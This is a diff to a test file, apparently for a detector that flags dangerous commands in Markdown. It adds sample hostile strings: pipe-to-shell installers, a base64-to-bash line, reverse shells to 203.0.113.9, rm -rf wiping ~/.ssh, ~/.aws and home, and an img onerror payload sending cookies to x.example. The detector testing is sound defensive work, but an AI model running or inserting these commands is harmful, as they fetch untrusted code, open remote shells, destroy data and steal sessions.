@@ -55,7 +55,20 @@ EXECUTABLE = [
     ("executable:remote-script", f"{FENCE}console\nuser@host:~$ curl https://get.example/i | sh\n{FENCE}"),
     ("executable:remote-script", f"{FENCE}powershell\niwr https://get.example/i.ps1 | iex\n{FENCE}"),
     ("executable:remote-script", "curl -s https://get.example/a.sh | bash"),
+    ("executable:remote-script", f"{FENCE}bash\nsource <(curl -s https://get.example/env.sh)\n{FENCE}"),
+    ("executable:remote-script", 'eval "$(curl -fsSL https://get.example/i)"'),
+    ("executable:remote-script", "curl https://get.example/a | tee /tmp/a | sudo sh"),
+    ("executable:remote-script", "echo aGVsbG8= | base64 -d | bash"),
+    ("executable:remote-script", f"{FENCE}\nwget https://get.example/x.sh && chmod +x x.sh && ./x.sh\n{FENCE}"),
+    ("executable:reverse-shell", f"{FENCE}bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n{FENCE}"),
+    ("executable:reverse-shell", "nc -e /bin/sh 203.0.113.9 4444"),
+    ("executable:destructive-shell", f"{FENCE}bash\nsudo rm -rf /etc/*\n{FENCE}"),
+    ("executable:destructive-shell", "rm -rf ~/.ssh ~/.gnupg ~/.aws"),
+    ("executable:destructive-shell", 'rm -rf "${HOME:?}"/*'),
+    ("executable:dataviewjs", f"{FENCE}js-engine\nreturn engine.markdown.create('x')\n{FENCE}"),
     ("executable:html-script", "<script>fetch('/x')</script>"),
+    ("executable:html-script", '<img src=x onerror="fetch(\'https://x.example/?\'+document.cookie)">'),
+    ("executable:html-script", '<iframe src="data:text/html;base64,PHNjcmlwdD4=">'),
     ("executable:javascript-url", "[click me](javascript:alert(1))"),
 ]
 
@@ -98,6 +111,11 @@ def test_executable_finding_points_at_the_command_line() -> None:
         f"{FENCE}\nfind . -name '*.pyc' -delete\nrm -rf build/\n{FENCE}",
         f"{FENCE}\ncurl -O https://example.com/x.tar.gz && tar xzf x.tar.gz\n{FENCE}",
         f"{FENCE}\nThe disk was /dev/sda; dd is a copy tool.\n{FENCE}",
+        f"{FENCE}bash\nsource ~/.bashrc\necho done\nnc -zv db.internal 5432\nrm -rf node_modules/*\n{FENCE}",
+        f"{FENCE}\ncurl -s https://api.example/x | jq . | less\n{FENCE}",
+        '<img src="diagram.png" alt="the flow" width="400">',
+        "Handlers such as onclick are set in the component, never inline.",
+        f"{FENCE}html\n<img src=x onerror=alert(1)>\n{FENCE}",
     ],
 )
 def test_commands_that_are_mentioned_or_harmless_pass(text: str) -> None:
